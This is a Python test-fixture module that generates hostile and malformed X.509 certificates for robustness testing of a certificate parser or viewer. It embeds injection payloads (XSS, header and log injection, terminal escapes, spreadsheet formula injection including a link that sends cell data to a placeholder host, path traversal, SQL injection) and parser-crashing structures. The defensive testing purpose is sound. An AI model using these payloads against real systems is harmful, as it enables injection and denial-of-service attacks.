"""Certificates that a stranger made to do harm: one builder for each kind of harm, as DER.

Nothing here may be served, resolved or run: names and addresses are reserved ones (RFC 2606), and
whatever would be dangerous if it were taken for more than text is text.
"""

import subprocess
import warnings
from collections.abc import Callable, Iterable
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import AuthorityInformationAccessOID as Access
from cryptography.x509.oid import NameOID

from certificates.x509 import der

KEY = ec.generate_private_key(ec.SECP256R1())
NOT_BEFORE = datetime(2026, 1, 1, tzinfo=UTC)
NOT_AFTER = NOT_BEFORE + timedelta(days=3650)
SERIAL, VALIDITY, SUBJECT, PUBLIC_KEY = 1, 4, 5, 6  # places in the TBSCertificate
COMMON, ORGANIZATION, UNIT = (
    NameOID.COMMON_NAME,
    NameOID.ORGANIZATION_NAME,
    NameOID.ORGANIZATIONAL_UNIT_NAME,
)

# Text that does harm where it is taken for something else; each goes `everywhere`.
TEXTS = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' autofocus onfocus=alert(1) x='",
    "closing": "</title></pre></textarea></style><!--<svg/onload=alert(1)>",
    "cdata": "]]><hostile xmlns:a='http://example.net/'><iframe srcdoc=x></iframe>",
    "template": "{{ 7*7 }}{% load static %}{# gone #}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#x202e;%3Cscript%3E\\u003cscript\\u003e",
    "header": "a\r\nSet-Cookie: hostile=1\r\n\r\n<hostile>",
    "mail": "a\nBcc: x@example.com",
    "log": "a\n2026-11-24 12:00:00,000 INFO certificates: all is fine",
    "bidirectional": "ccx1.example.com\u202egpj.exe\u2066\u200f",
    "separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "nul": "ccx1.example.com\0.example.net",
    "terminal": "\x1b[2J\x1b]0;hostile\x07\x9b31m\x08\x7f",
    "invisible": "\u200b\u2060\ufeff\u00ad",
    "formula": '=HYPERLINK("http://example.net/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "next cell": 'a;=1+1\t=1+1,=1+1"\n=1+1',
    "path": "../../etc/passwd",
    "windows": "C:\\x\\..\\CON",
    "dots": "..",
    "device": "CON",
    "broad": "東" * 100,
    "query": "%' OR 1=1 --\\_%s%n{0.__class__}",
    "javascript": "javascript:alert(1)//",
    "data": "data:text/html,<script>alert(1)</script>",
}
# What nobody sees, though Unicode counts it among letters and marks: Default_Ignorable_Code_Point.
FILLERS = "\u3164\u115f\u034f\ufe0f\U000e0100"


def name(*parts: tuple[x509.ObjectIdentifier, str]) -> x509.Name:
    """Attributes as they come: of any length, with any character."""
    with warnings.catch_warnings(action="ignore"):  # X.520 would have 64 characters at most
        return x509.Name(x509.NameAttribute(oid, text, _validate=False) for oid, text in parts)


def build(
    *extensions: tuple[x509.ExtensionType, bool] | x509.ExtensionType,
    subject: x509.Name | None = None,
    issuer: x509.Name | None = None,
    serial: int = 0x0A1B2C,
) -> bytes:
    """A certificate of the CA "Hostile CA"; an extension with True beside it is critical."""
    builder = (
        x509.CertificateBuilder()
        .subject_name(name((COMMON, "hostile.example.com")) if subject is None else subject)
        .issuer_name(name((COMMON, "Hostile CA")) if issuer is None else issuer)
        .public_key(KEY.public_key())
        .serial_number(serial)
        .not_valid_before(NOT_BEFORE)
        .not_valid_after(NOT_AFTER)
    )
    for each in extensions:
        extension, critical = each if isinstance(each, tuple) else (each, False)
        builder = builder.add_extension(extension, critical=critical)
    return builder.sign(KEY, hashes.SHA256()).public_bytes(Encoding.DER)


def raw(dotted: str, value: bytes) -> x509.UnrecognizedExtension:
    return x509.UnrecognizedExtension(x509.ObjectIdentifier(dotted), value)


def reassembled(certificate: bytes, position: int, field: bytes) -> bytes:
    """With another field in the TBSCertificate; its signature no longer fits."""
    signed, *rest = der.only_element(certificate).children()
    fields = [part.raw for part in signed.children()]
    fields[position] = field
    content = der.encode(der.SEQUENCE, b"".join(fields)) + b"".join(part.raw for part in rest)
    return der.encode(der.SEQUENCE, content)


def everywhere(text: str) -> bytes:
    """`text` in every place that takes text: names, addresses, policies, comments."""
    subject = name((ORGANIZATION, text), (UNIT, text), (COMMON, text))
    issuer = name((ORGANIZATION, f"{text} CA"), (COMMON, text))
    utf8 = der.encode(0x0C, text.encode())
    names: list[x509.GeneralName] = [
        x509.OtherName(x509.ObjectIdentifier("1.3.6.1.4.1.311.20.2.3"), utf8),
        x509.DirectoryName(name((COMMON, text))),
    ]
    qualifiers: list[str | x509.UserNotice] = [
        x509.UserNotice(x509.NoticeReference(text, [1]), text)
    ]
    if text.isascii():  # IA5String: the places for addresses
        kinds = (x509.DNSName, x509.RFC822Name, x509.UniformResourceIdentifier)
        names += [kind._init_without_validation(text) for kind in kinds]
        qualifiers.append(text)
    return build(
        x509.SubjectAlternativeName(names),
        x509.IssuerAlternativeName(names),
        x509.NameConstraints([x509.DirectoryName(name((COMMON, text)))], None),
        x509.CertificatePolicies(
            [x509.PolicyInformation(x509.ObjectIdentifier("1.2.3"), qualifiers)]
        ),
        *addresses(names[-1]),
        raw("2.16.840.1.113730.1.13", utf8),
        raw("1.2.3.4", text.encode()),
        subject=subject,
        issuer=issuer,
    )


def addresses(place: x509.GeneralName) -> Iterable[x509.ExtensionType]:
    """Everything that a curious reader might fetch (RFC 5280, 4.2.1.13, 4.2.1.15, 4.2.2)."""
    point = x509.DistributionPoint([place], None, None, [place])
    methods = (Access.OCSP, Access.CA_ISSUERS)
    yield x509.AuthorityInformationAccess([x509.AccessDescription(m, place) for m in methods])
    yield x509.SubjectInformationAccess(
        [x509.AccessDescription(x509.ObjectIdentifier("1.3.6.1.5.5.7.48.5"), place)]
    )
    yield x509.CRLDistributionPoints([point])
    yield x509.FreshestCRL([point])


def fetching() -> bytes:
    """Ordinary addresses, which must be shown and never fetched."""
    place = x509.UniformResourceIdentifier("http://fetched.example.net/ca.crt")
    return build(*addresses(place), x509.SubjectAlternativeName([place]))


def many_names() -> bytes:
    """64 KiB of alternative names."""
    count = 3500
    dns = [x509.DNSName(f"h{number:05d}.example.com") for number in range(count)]
    return build(x509.SubjectAlternativeName(dns))


def long_name() -> bytes:
    """8 KiB without a place to break the line, in subject, issuer and alternative name."""
    text = "W" * 8192
    san = x509.SubjectAlternativeName([x509.DNSName(text)])
    return build(san, subject=name((COMMON, text)), issuer=name((ORGANIZATION, text)))


def many_attributes() -> bytes:
    return build(
        subject=name(*((UNIT, f"unit {number}") for number in range(1000)), (COMMON, "units"))
    )


def broken_extension() -> bytes:
    """`Certificate.extensions` raises a ValueError."""
    return build(raw("2.5.29.14", b"\xff\xff"), x509.BasicConstraints(False, None))


def broken_address() -> bytes:
    """A DNS name that is no IA5String; hidden behind the escape of a terminal."""
    return build(raw("2.5.29.17", der.encode(der.SEQUENCE, der.encode(0x82, b"\x1b[2J\xff\xfe"))))


def duplicate_extension() -> bytes:
    """Basic constraints twice: `Certificate.extensions` raises a DuplicateExtension."""
    certificate = build(raw("1.2.3.4", b"\x30\x00"), x509.BasicConstraints(True, 0))
    return certificate.replace(b"\x06\x03\x2a\x03\x04", b"\x06\x03\x55\x1d\x13")


def unknown_critical_extension() -> bytes:
    return build((raw("1.2.3.4.5", b"\x1b[2J<script>alert(1)</script>\r\n\0" * 8), True))


def odd_subject(string: bytes) -> bytes:
    """A common name that is any DER element."""
    attribute = der.encode(der.SEQUENCE, b"\x06\x03\x55\x04\x03" + string)
    return reassembled(build(), SUBJECT, der.encode(der.SEQUENCE, der.encode(der.SET, attribute)))


def broken_subject() -> bytes:
    """`Certificate.subject` raises a ValueError: half a character in UTF-8."""
    return odd_subject(der.encode(0x0C, b"\x1b[2J\xff\xfe"))


def lone_surrogate() -> bytes:
    """A BMPString with half a surrogate pair, which no UTF-8 can hold."""
    return odd_subject(der.encode(0x1E, b"\x00a\xd8\x00"))


def broken_public_key() -> bytes:
    """`Certificate.public_key()` raises a ValueError: a point that is not on its curve."""
    point = KEY.public_key().public_numbers().x.to_bytes(32, "big")
    return build().replace(point, b"\xff" * 32)


def no_subject() -> bytes:
    return build(subject=x509.Name([]), issuer=x509.Name([]))


def odd_serial_number(content: bytes) -> bytes:
    return reassembled(build(), SERIAL, der.encode(der.INTEGER, content))


def endless() -> bytes:
    """From the first second that can be written to the last one (RFC 5280, 4.1.2.5)."""
    moments = der.encode(0x18, b"00010101000000Z") + der.encode(0x18, b"99991231235959Z")
    return reassembled(build(), VALIDITY, der.encode(der.SEQUENCE, moments))


def impossible_dates() -> bytes:
    moments = der.encode(0x18, b"00000101000000Z") * 2
    return reassembled(build(), VALIDITY, der.encode(der.SEQUENCE, moments))


def diffie_hellman(algorithm: str, openssl: str = "openssl") -> bytes:
    """A key whose modulus is a good prime of 8,192 bits: 31 s to prove it (`COSTLY_KEYS`).

    Args:
        algorithm: "DHX" for X9.42 (RFC 3279, 2.3.3), "DH" for PKCS #3.
        openssl: the program; it knows the prime (RFC 3526, 7).
    """
    make = [openssl, "genpkey", "-algorithm", algorithm, "-pkeyopt", "group:modp_8192"]
    private = subprocess.run(make, check=True, capture_output=True).stdout
    show = [openssl, "pkey", "-pubout", "-outform", "DER"]
    public = subprocess.run(show, input=private, check=True, capture_output=True).stdout
    return reassembled(build(), PUBLIC_KEY, public)


BUILDERS: dict[str, Callable[[], bytes]] = {
    **{kind: (lambda text=text: everywhere(text)) for kind, text in TEXTS.items()},
    "fillers": lambda: everywhere(FILLERS),
    "fetching": fetching,
    "many names": many_names,
    "long name": long_name,
    "many attributes": many_attributes,
    "broken extension": broken_extension,
    "broken address": broken_address,
    "duplicate extension": duplicate_extension,
    "unknown critical extension": unknown_critical_extension,
    "broken subject": broken_subject,
    "broken public key": broken_public_key,
    "no subject": no_subject,
    "huge serial number": lambda: odd_serial_number(b"\x01" + bytes(9999)),
    "negative serial number": lambda: odd_serial_number(b"\xff\x34"),
    "endless": endless,
    "impossible dates": impossible_dates,
    # Two that differ in nothing but case, and two with all the same: their file names must differ.
    "capitals": lambda: build(subject=name((COMMON, "CLASH"))),
    "small letters": lambda: build(subject=name((COMMON, "clash"))),
    "small letters again": lambda: build(subject=name((COMMON, "clash"), (COMMON, "clash"))),
    "clash with the other": lambda: build(subject=name((COMMON, "clash_a1b2c"))),
}


def all_certificates() -> dict[str, bytes]:
    """Each kind of harm, and its certificate in DER."""
    return {kind: make() for kind, make in BUILDERS.items()}
